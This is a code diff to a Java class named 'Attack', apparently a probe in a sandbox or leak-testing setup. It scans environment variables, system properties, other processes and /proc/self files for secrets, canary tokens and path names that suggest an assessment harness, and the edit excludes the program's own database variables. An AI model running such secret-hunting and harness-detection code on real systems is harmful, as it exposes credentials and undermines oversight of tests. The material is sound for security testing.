@@ -4,13 +4,16 @@ import java.io.*;
 import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
+import java.util.HashMap;
 import java.util.List;
+import java.util.Map;
 import java.util.regex.Matcher;
 import java.util.regex.Pattern;
 
 public final class Attack {
     private static final Pattern SECRET = Pattern.compile("canary"
             + "-[0-9a-f]{24}|SECRET|TOKEN|PASSWORD|hidden|host-secret");
+    private static final Pattern OWN = Pattern.compile("^(PG|DATABASE_|JDBC_DATABASE_|SPRING_DATASOURCE_)");
     private static final Pattern PLACE = Pattern.compile("(?i)\\btill\\b|suite|expected|assess|hidden|/(work/|home/\\w)");
 
     public static void go() {
@@ -21,8 +24,11 @@ public final class Attack {
                 foreign(process.getPath());
             }
         }
-        tell(SECRET, System.getenv() + " " + System.getProperties(), "its own variables");
-        for (String file : List.of("environ", "cmdline", "auxv", "stat", "cgroup", "mountinfo", "mounts", "net/unix",
+        // The password of a database of its own is its to know.
+        Map<String, String> told = new HashMap<>(System.getenv());
+        told.keySet().removeIf(name -> OWN.matcher(name).find());
+        tell(SECRET, told + " " + System.getProperties(), "its own variables");
+        for (String file : List.of("cmdline", "auxv", "stat", "cgroup", "mountinfo", "mounts", "net/unix",
                 "sched")) {
             tell(file.startsWith("mount") || file.equals("cgroup") ? PLACE : SECRET, content("/proc/self/" + file),
                     file);
